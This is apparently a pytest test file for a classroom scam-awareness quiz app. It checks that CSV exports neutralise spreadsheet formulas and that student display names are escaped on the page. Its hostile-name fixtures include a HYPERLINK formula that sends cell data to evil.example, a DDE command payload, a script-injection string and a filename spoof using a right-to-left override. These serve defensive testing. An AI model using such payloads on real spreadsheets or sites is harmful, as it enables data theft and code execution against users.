"""Class results as CSV: the two exports, cells neutralised against formulas, and hostile display
names on the page and in the CSV."""

import unicodedata

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from quizzes.check.scoring import Rating, score
from quizzes.classes.csv_export import safe_cell
from quizzes.models import Answer
from tests.factories import (
    add_student,
    assign,
    make_branching_scenario,
    make_class,
    make_student,
    make_teacher,
    play,
)
from tests.quizzes.classes.test_results import read_csv

pytestmark = pytest.mark.django_db


# --- CSV -----------------------------------------------------------------------------------


def test_results_csv_has_one_row_per_student_and_scenario(client, lesson):
    classroom, scenario, students = lesson
    assign(classroom, make_branching_scenario("Fake refund"))
    client.force_login(classroom.teacher)
    response = client.get(reverse("classes:export-csv", args=[classroom.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["Student", "Scenario", "Language", "Due date", "Status", "Outcome"]
    assert len(body) == 4 * 2
    by_key = {(r[0], r[1]): r for r in body}
    assert by_key[("Bo", "Likes for money")][4:9] == ["Finished", "Partly harmed", "1", "2", "50"]
    assert by_key[("Cy", "Likes for money")][11] == "2"  # attempts
    assert by_key[("Ana", "Fake refund")][4] == "Not started"


CHECK_HEADER = [
    "Check before: answers right (%)",
    "Check before: scams caught",
    "Check before: false alarms",
    "Check after: answers right (%)",
    "Check after: scams caught",
    "Check after: false alarms",
]


def test_results_csv_repeats_each_students_check_scores_on_their_rows(client, checks):
    classroom, scenario, students = checks
    assign(classroom, make_branching_scenario("Fake refund"))
    client.force_login(classroom.teacher)
    rows = read_csv(client.get(reverse("classes:export-csv", args=[classroom.pk])))
    header, body = rows[0], rows[1:]
    assert len(header) == 14 + 6 + 9 and header[14:20] == CHECK_HEADER
    assert header[20:23] == ["Check before: d′", "Check before: c", "Check before: AUC"]
    assert header[:14] == [  # the existing columns are unchanged
        "Student",
        "Scenario",
        "Language",
        "Due date",
        "Status",
        "Outcome",
        "Safe choices",
        "Decisions",
        "Safe-choice rate (%)",
        "Red flags found",
        "Red flags to find",
        "Attempts",
        "Started",
        "Finished",
    ]
    checks_of = {}
    for row in body:
        assert len(row) == 29
        checks_of.setdefault(row[0], set()).add(tuple(row[14:20]))
        if row[0] == "Ana":  # 4 of 5 scams caught, 2 of 5 real messages flagged, before
            before = score(
                [Rating(True, n < 4, 3) for n in range(5)]
                + [Rating(False, n < 2, 3) for n in range(5)]
            )
            assert row[20] == f"{before.d_prime:.2f}" and row[26:29] == ["", "", ""]
    assert checks_of == {  # one value per student: the same on each of their rows
        "Ana": {("70", "4", "2", "100", "5", "0")},
        "Bo": {("80", "3", "0", "", "", "")},
        "Cy": {("", "", "", "", "", "")},
        "Di": {("", "", "", "", "", "")},
    }


def test_answers_csv_has_one_row_per_answer(client, lesson):
    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    response = client.get(reverse("classes:export-answers-csv", args=[classroom.pk]))
    rows = read_csv(response)
    body = rows[1:]
    assert len(body) == Answer.objects.count() == 9
    cy = [r for r in body if r[0] == "Cy"]
    assert [(r[2], r[5], r[7], r[8]) for r in cy] == [
        ("1", "d1", "Send my ID card.", "no"),
        ("1", "d2", "Pay the deposit.", "no"),
        ("2", "d1", "Ignore and block.", "yes"),
        ("2", "s1", "Pay 500 now", "yes"),
    ]


def test_chinese_names_survive_the_csv(client):
    classroom = make_class(name="七年级二班")
    scenario = make_branching_scenario("兼职刷单", language="zh-hans")
    assign(classroom, scenario)
    play(scenario, add_student(classroom, display_name="王小明"), "safe")
    client.force_login(classroom.teacher)
    rows = read_csv(client.get(reverse("classes:export-csv", args=[classroom.pk])))
    assert rows[1][:2] == ["王小明", "兼职刷单"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\u200f=1", "'\u200f=1"),  # a right-to-left mark in front
        ("\u202e=1", "'=1"),  # an override character is dropped, then neutralised
        ("Ana", "Ana"),
        ("a=b", "a=b"),
        ("王小明", "王小明"),
        (5, "5"),
        (None, ""),
    ],
)
def test_cells_are_neutralised_against_formula_injection(value, expected):
    assert safe_cell(value) == expected


@given(st.text())
def test_no_text_comes_out_of_a_cell_as_a_formula(text):
    cell = safe_cell(text)
    visible = cell.lstrip()
    visible = "".join(ch for ch in visible if unicodedata.category(ch) != "Cf")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not visible.startswith(("=", "+", "-", "@")) or cell.startswith("'")
    assert "\u202e" not in cell


# --- hostile names -------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "<script>alert(1)</script>",
    "\u202eevil\u202c gnp.exe",
    "@cmd|' /C calc'!A0",
]


def test_hostile_display_names_are_escaped_on_the_page_and_neutralised_in_the_csv(client):
    classroom = make_class(name="<b>class</b>")
    scenario = make_branching_scenario("=1+1 scenario")
    assign(classroom, scenario)
    for name in HOSTILE:
        play(scenario, add_student(classroom, display_name=name), "harmed")
    client.force_login(classroom.teacher)

    page = client.get(classroom.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>class</b>" not in page and "&lt;b&gt;class&lt;/b&gt;" in page
    assert "<bdi>\u202eevil\u202c gnp.exe</bdi>" in page  # isolated from the text around it

    for url in ("classes:export-csv", "classes:export-answers-csv"):
        rows = read_csv(client.get(reverse(url, args=[classroom.pk])))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
                assert "\u202e" not in cell
        names = {row[0] for row in rows[1:]}
        assert "'" + HOSTILE[0] in names and "'" + HOSTILE[3] in names
        assert {row[1] for row in rows[1:]} == {"'=1+1 scenario"}


def test_a_5000_character_display_name_is_refused_without_an_error_page(client):
    classroom = make_class()
    student = make_student()
    client.force_login(student)
    for name in ("=" + "A" * 4999, "<script>" * 625):
        response = client.post(
            reverse("classes:join"), {"code": classroom.join_code, "display_name": name}
        )
        assert response.status_code == 400
        assert "at most 60 characters" in response.content.decode()
    student.refresh_from_db()
    assert student.display_name == ""


def test_long_names_wrap_instead_of_breaking_the_layout(client):
    classroom = make_class()
    assign(classroom, make_branching_scenario())
    add_student(classroom, display_name="W" * 60)
    client.force_login(classroom.teacher)
    page = client.get(classroom.get_absolute_url()).content.decode()
    assert 'class="student-name"><bdi>' + "W" * 60 in page  # .student-name wraps anywhere


def test_usernames_of_other_classes_are_never_shown(client):
    classroom = make_class()
    scenario = make_branching_scenario()
    assign(classroom, scenario)
    other_teacher = make_teacher()
    pupil = make_student("otter-2345", created_by=other_teacher)  # no display name
    add_student(classroom, pupil)
    mine = make_student("panda-7788", created_by=classroom.teacher)
    add_student(classroom, mine)
    play(scenario, pupil, "safe")
    client.force_login(classroom.teacher)
    for url in (
        classroom.get_absolute_url(),
        reverse("classes:export-csv", args=[classroom.pk]),
        reverse("classes:export-answers-csv", args=[classroom.pk]),
        reverse("classes:student", args=[classroom.pk, pupil.pk]),
    ):
        body = client.get(url).content.decode("utf-8-sig")
        assert "otter-2345" not in body, url
    page = client.get(classroom.get_absolute_url()).content.decode()
    assert "Student 1" in page  # shown by number instead
    assert "panda-7788" in page  # the teacher created that account and printed its slip
